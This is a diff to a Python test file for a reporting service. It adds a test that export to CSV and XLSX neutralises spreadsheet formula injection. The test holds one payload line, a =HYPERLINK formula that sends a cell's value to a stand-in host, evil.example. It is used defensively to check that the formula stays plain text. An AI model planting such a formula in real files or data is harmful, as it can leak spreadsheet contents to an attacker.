@@ -12,6 +12,7 @@ from sqlalchemy.orm import Session
 
 from service.campaigns.models import Campaign
 from service.gradings.models import Grading
+from service.organizations.models import Organization
 from service.reports import queries as reports
 from tests.conftest import Api, assert_problem
 from tests.grading_helpers import walk
@@ -244,3 +245,23 @@ def test_an_indicator_scored_by_sub_items_is_their_sum_in_the_detail() -> None:
         "performance.economy": Decimal("7.50"),
         "performance.services": Decimal("6.00"),
     }
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(api: Api, db: Session) -> None:
+    """CSV injection: an organization named =HYPERLINK(…) is shown, never run."""
+    trap = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    db.get_one(Organization, api.world.org("A1-01").id).name = trap
+    campaign = graded(db, api, {"A1-01": ("rated", "good")})
+    csv_text = api.get(
+        f"/api/v1/campaigns/{campaign}/reports/detail?format=csv", who="admin"
+    ).get_data(as_text=True)
+    cells = [c for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for c in row]
+    assert "'" + trap in cells and trap not in cells
+    book = load_workbook(
+        io.BytesIO(
+            api.get(f"/api/v1/campaigns/{campaign}/reports/detail?format=xlsx", who="admin").data
+        )
+    ).active
+    assert book is not None
+    found = [c for row in book.iter_rows() for c in row if c.value == trap]
+    assert found and all(c.data_type == "s" for c in found)  # a string cell, not a formula
